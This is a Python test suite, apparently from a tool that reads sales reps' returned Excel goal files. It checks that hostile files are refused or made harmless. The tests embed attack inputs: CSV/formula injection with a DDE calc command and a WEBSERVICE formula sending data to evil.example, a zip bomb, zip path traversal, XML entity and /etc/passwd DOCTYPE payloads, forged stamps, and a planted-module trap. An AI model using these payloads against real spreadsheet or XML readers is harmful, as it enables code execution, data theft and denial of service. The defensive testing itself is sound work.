"""An attacker's afternoon with a rep's file: nothing runs, nothing leaks, a sentence each, no hang."""

import io
import os
import shutil
import subprocess
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import office
import openpyxl
import pytest

from conformance.check import assert_conforms
from memory_excel import loaded
from sent_files import (
    ANNA,
    DETAILS,
    NUMBER,
    RATE,
    SENT,
    SOLD,
    ZOE,
    collect,
    log,
    order,
    rezipped,
    said,
    send,
    typed,
)
from xlgoals.hosts.closed import ClosedFile
from xlgoals.hosts.sandbox import reading
from xlgoals.hosts.sandbox.reading import Reader, read_rep_files
from xlgoals.tables.returned_file import Answers, Unread
from xlgoals.views.rep_file import STAMP

SHEET = "xl/worksheets/sheet1.xml"
LINK = '=HYPERLINK("http://evil.example","Click")'
DDE = "=cmd|'/C calc'!A0"


@pytest.fixture(scope="session")
def sent_made(sample_made: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("attacked")
    plan = Path(shutil.copy(sample_made, folder / "plan.xlsx"))
    order(plan, "propose", "all")
    send(plan, folder / "files", "R01", "R05")
    return folder


@pytest.fixture
def sent(sent_made: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(sent_made, tmp_path / "sent"))


@pytest.fixture
def plan(sent: Path) -> Path:
    return sent / "plan.xlsx"


@pytest.fixture
def anna(sent: Path) -> Path:
    return sent / "files" / ANNA


def one(path: Path) -> Any:
    """What is read from a single file."""
    (found,) = read_rep_files([path])
    return found


def formulas(path: Path) -> set[str]:
    """All formulas of the log and the reps' sheets of a plan."""
    book = loaded(path)
    sheets = [sheet for sheet in book if sheet.title.startswith(("Negotiation log", "N · "))]
    return {
        str(c.value) for s in sheets for row in s.iter_rows() for c in row if c.data_type == "f"
    }


# ── Texts ──────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.libreoffice
@pytest.mark.parametrize("text", [LINK, DDE, "=1+1", "+1+cmd", "@SUM(A1)", "-2+3", "\t=1+1"])
def test_a_text_from_a_rep_never_becomes_a_formula(
    plan: Path, anna: Path, tmp_path: Path, text: str
) -> None:
    before = formulas(plan)

    def as_text(book: Any) -> None:
        book["Your goals"][DETAILS].data_type = "s"

    found = collect(plan, typed(anna, {NUMBER: 800_000, DETAILS: text}, also=as_text))
    assert found.reports[0].outcome == "taken"
    assert said(plan)[0][3] == text.strip()
    assert formulas(plan) == before
    saved = office.convert(plan, tmp_path / "calc", "xlsx", recalculate=True)
    assert text.strip() in [
        cell.value
        for row in loaded(saved)["Negotiation log"].iter_rows()
        for cell in row
        if cell.data_type == "s"
    ]
    assert not any("HYPERLINK(" in text or "cmd" in text for text in formulas(saved))


@pytest.mark.parametrize(
    "formula", [LINK, DDE, '=WEBSERVICE("http://evil.example/"&A1)', "='C:\\[x.xlsx]S'!A1"]
)
def test_a_formula_is_never_worked_out(plan: Path, anna: Path, formula: str) -> None:
    found = collect(plan, typed(anna, {NUMBER: formula, DETAILS: formula, SOLD: 21}))
    assert [e[:3] for e in said(plan)] == [("Sales", "counter", 21.0)]
    assert found.reports[0].outcome == "taken"
    assert not any(word in plan.read_bytes() for word in (b"evil", b"calc'!"))


def test_a_formula_counts_with_the_value_that_was_saved(plan: Path, anna: Path) -> None:
    typed(anna, {NUMBER: 123_456})
    cell = b"<f>400000*1.05</f><v>420000</v>"
    rezipped(anna, {SHEET: lambda part: part.replace(b"<v>123456</v>", cell)})
    assert openpyxl.load_workbook(anna)["Your goals"][NUMBER].value == "=400000*1.05"
    collect(plan, anna)
    assert said(plan)[0][2] == 420_000.0


def test_control_characters_and_marks_of_direction_are_taken_out(plan: Path, anna: Path) -> None:
    text = "Two\u202e left\u200f\u2066 \u0007and\u0001 no\ttrace\nof them\u2028."
    typed(anna, {NUMBER: 800_000, DETAILS: "PLACE"})
    safe = text.replace("\u0007", "_x0007_").replace("\u0001", "_x0001_")
    parts = (SHEET, "xl/sharedStrings.xml")
    rezipped(anna, dict.fromkeys(parts, lambda part: part.replace(b"PLACE", safe.encode())))
    collect(plan, anna)
    reason = said(plan)[0][3]
    assert reason.isprintable()
    assert reason.startswith("Two left")


def test_a_text_of_32767_characters_is_kept_as_far_as_the_log_goes_and_told(
    plan: Path, anna: Path
) -> None:
    found = collect(plan, typed(anna, {NUMBER: 800_000, DETAILS: "x" * 32_767}))
    assert found.reports[0].notes == (
        "Revenue: the first 8,000 of 32,767 characters of the details were kept; the rest is in the file.",
    )
    assert said(plan)[0][3] == "x" * 8_000
    assert_conforms(plan)


@pytest.mark.parametrize("value", [float("1e300"), -5, True, "1e999", "NaN", "inf", "٣٤", "0x10"])
def test_odd_numbers_end_in_a_sentence(plan: Path, anna: Path, value: Any) -> None:
    found = collect(plan, typed(anna, {RATE: value}))
    assert found.reports[0].outcome == "refused"
    assert found.reports[0].problems or found.reports[0].notes
    assert [one[1] for one in said(plan)] == ["not taken"]


# ── Stamps ─────────────────────────────────────────────────────────────────────────────────────


def stamp_of(path: Path) -> str:
    return str(openpyxl.load_workbook(path)["Your goals"][STAMP].value)


@pytest.mark.parametrize(
    ("at", "to", "why"),
    [
        (1, "another", "it was sent from another plan"),
        (2, "2", "its stamp was changed"),
        (3, "1", "its stamp was changed"),
        (3, "99999", "its stamp was changed"),
        (4, "0" * 32, "its stamp was changed"),
        (4, "", "its stamp was changed"),
        (4, "é" * 32, "its stamp was changed"),
        (5, "R05", "its stamp was changed"),
        (5, "R99", "nobody on sheet Reps with a goal has the ID “R99”"),
        (2, "9" * 40, "its stamp was changed, so nobody can tell whose it is"),
    ],
)
def test_an_edited_stamp_is_not_taken(plan: Path, anna: Path, at: int, to: str, why: str) -> None:
    parts = stamp_of(anna).split(";")
    parts[at] = to
    found = collect(plan, typed(anna, {STAMP: ";".join(parts), NUMBER: 1, DETAILS: "Mine."}))
    assert found.reports[0].outcome == "refused"
    assert why in found.reports[0].sentence
    assert not [e for e in log(plan) if e.action == "counter"]
    kept = "Mine." in str(log(plan)) or "Mine." in str(found.reports[0].echo)
    assert kept


def test_a_colleagues_stamp_on_ones_own_answers_is_not_taken(
    plan: Path, anna: Path, sent: Path
) -> None:
    theirs = stamp_of(sent / "files" / ZOE)
    found = collect(plan, typed(anna, {STAMP: theirs, NUMBER: 1}))
    assert "was changed in it" in found.reports[0].sentence
    assert not [e for e in log(plan) if e.action == "counter"]


def test_a_replayed_round_is_not_taken(plan: Path, anna: Path, sent: Path) -> None:
    old = stamp_of(anna)
    collect(plan, typed(anna, {NUMBER: 800_000}))
    order(plan, "propose", "R01", "Revenue", 850_000.0, when=SENT.replace(day=6))
    send(plan, sent / "two", "R01")
    (fresh,) = (sent / "two").iterdir()
    found = collect(plan, typed(fresh, {STAMP: old, NUMBER: 1}, saved=SENT.replace(day=7)))
    assert found.reports[0].outcome == "refused"
    assert [e.value for e in log(plan) if e.action == "counter"] == [800_000.0]


def test_a_time_of_saving_in_the_future_does_not_shut_out_later_answers(
    plan: Path, anna: Path, sent: Path
) -> None:
    liar = typed(
        Path(shutil.copy(anna, sent / "a, saved 2099-01-01 00:00:00.xlsx")),
        {NUMBER: 1},
        saved=SENT.replace(year=2099),
    )
    collect(plan, liar, when=SENT.replace(day=4))
    collect(
        plan, typed(anna, {NUMBER: 800_000}, saved=SENT.replace(day=5)), when=SENT.replace(day=6)
    )
    assert said(plan)[-1][1:3] == ("counter", 800_000.0)


# ── Files ──────────────────────────────────────────────────────────────────────────────────────


def bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as file:
        file.writestr("xl/worksheets/sheet9.xml", b"0" * (80 << 20))


def twice(path: Path) -> None:
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(path, "a") as file:
        file.writestr(SHEET, b"<worksheet/>")


def outside(path: Path) -> None:
    with zipfile.ZipFile(path, "a") as file:
        file.writestr("../../evil.xml", b"<x/>")


def cut(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:-500])


def doctype(path: Path) -> None:
    entity = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    rezipped(path, {SHEET: lambda part: part.replace(b"<worksheet", entity + b"<worksheet", 1)})


def late_doctype(path: Path) -> None:
    entity = b"<!--" + b"x" * 9_000 + b'--><!DOCTYPE x SYSTEM "file:///etc/passwd">'
    rezipped(path, {SHEET: lambda part: part.replace(b"<worksheet", entity + b"<worksheet", 1)})


def nested(path: Path) -> None:
    inner = path.read_bytes()
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("inner.xlsx", inner)


def encrypted(path: Path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4_000)


def picture(path: Path) -> None:
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(2_000))


def empty(path: Path) -> None:
    path.write_bytes(b"")


def large(path: Path) -> None:
    with path.open("ab") as file:
        file.truncate(25 << 20)


def broken_xml(path: Path) -> None:
    rezipped(path, {SHEET: lambda part: part[: len(part) // 2]})


def no_sheets(path: Path) -> None:
    rezipped(path, {"xl/workbook.xml": lambda part: b"<workbook/>"})


def another_workbook(path: Path) -> None:
    openpyxl.Workbook().save(path)


def many_parts(path: Path) -> None:
    with zipfile.ZipFile(path, "a") as file:
        for number in range(20_001):
            file.writestr(f"x{number}.xml", b"")


def flagged(path: Path) -> None:
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    path.write_bytes(bytes(data))


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (bomb, "far larger than a rep's file"),
        (twice, "names a part twice"),
        (outside, "outside of itself"),
        (cut, "not a workbook, or was cut off"),
        (doctype, "has a DOCTYPE"),
        (late_doctype, "has a DOCTYPE"),
        (nested, "no file that xlgoals sent to a rep"),
        (encrypted, "password-protected"),
        (flagged, "password-protected"),
        (picture, "not a workbook"),
        (empty, "is empty"),
        (large, "far larger than a rep's file"),
        (broken_xml, "damaged"),
        (no_sheets, "no file that xlgoals sent to a rep"),
        (another_workbook, "no file that xlgoals sent to a rep"),
        (many_parts, "20,0"),
    ],
)
def test_a_spoilt_file_ends_in_a_sentence(
    plan: Path, anna: Path, spoil: Callable[[Path], None], said: str
) -> None:
    spoil(anna)
    begin, before = time.monotonic(), plan.read_bytes()
    found = collect(plan, anna)
    assert time.monotonic() - begin < 30
    assert found.reports[0].outcome == "refused"
    assert said in found.reports[0].sentence
    assert ANNA in found.reports[0].sentence
    assert plan.read_bytes() == before


def test_a_cell_in_the_last_corner_takes_no_memory_and_the_answer_is_read(
    plan: Path, anna: Path
) -> None:
    typed(anna, {NUMBER: 800_000, "XFD1048576": "far"})
    found = collect(plan, anna)
    assert found.reports[0].outcome == "taken"
    assert said(plan)[0][2] == 800_000.0


def test_what_breaks_the_reader_down_leaves_the_other_files_alone(sent: Path, anna: Path) -> None:
    far = b'<c   r="XFD1048576"><v>1</v></c></row></sheetData>'
    hidden = Path(shutil.copy(anna, sent / "a.xlsx"))
    rezipped(hidden, {SHEET: lambda part: part.replace(b"</row></sheetData>", far)})
    found = read_rep_files([anna, hidden, sent / "files" / ZOE])
    assert [type(one) for one in found] == [Answers, Unread, Answers]
    assert "the reader broke down over it" in found[1].why or "damaged" in found[1].why


def test_a_file_that_takes_too_long_is_left_aside(
    sent: Path, anna: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    slow = Path(shutil.copy(anna, sent / "slow.xlsx"))
    program = (
        "import time\nfrom xlgoals.hosts.sandbox import sandbox_process as child\nopen_one = child.open_rep_file\n"
        "child.open_rep_file = lambda path: time.sleep(60) if path.name == 'slow.xlsx' else open_one(path)\n"
        "child.main()"
    )
    monkeypatch.setattr(reading, "PROGRAM", program)
    begin = time.monotonic()
    found = read_rep_files([anna, slow, sent / "files" / ZOE], reader=Reader(seconds=2))
    assert time.monotonic() - begin < 40
    assert [type(one) for one in found] == [Answers, Unread, Answers]
    assert found[1].why == "slow.xlsx takes too long to open; it was left aside."


def test_no_module_is_taken_from_the_folder_of_the_files(sent: Path, anna: Path) -> None:
    trap = "open('trapped', 'w').close()\n"
    for name in ("json.py", "zipfile.py", "python_calamine.py", "lxml.py"):
        (anna.parent / name).write_text(trap, encoding="utf-8")
    program = (
        "from pathlib import Path\nfrom xlgoals.hosts.sandbox.reading import read_rep_files\n"
        f"print(type(read_rep_files([Path({str(anna)!r})])[0]).__name__)"
    )
    done = subprocess.run(
        [os.sys.executable, "-P", "-c", program],
        cwd=anna.parent,
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout.strip() == "Answers"
    assert not (anna.parent / "trapped").exists()


def test_other_parts_of_a_file_are_never_looked_at(plan: Path, anna: Path) -> None:
    typed(anna, {NUMBER: 800_000})
    rezipped(
        anna,
        {},
        {
            "xl/vbaProject.bin": b"macro",
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/media/image1.png": b"not a picture",
            "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0",
        },
    )
    assert collect(plan, anna).reports[0].outcome == "taken"
    with zipfile.ZipFile(io.BytesIO(plan.read_bytes())) as parts:
        assert not [name for name in parts.namelist() if "vba" in name or "external" in name]


def test_a_link_to_a_file_elsewhere_is_only_ever_read(plan: Path, anna: Path, sent: Path) -> None:
    secret = sent / "secret.txt"
    secret.write_text("nobody's business", encoding="utf-8")
    link = sent / "files" / "link.xlsx"
    link.symlink_to(secret)
    found = collect(plan, link)
    assert "nobody" not in str(found)
    assert "not a workbook" in found.reports[0].sentence
    assert ClosedFile.open(plan)
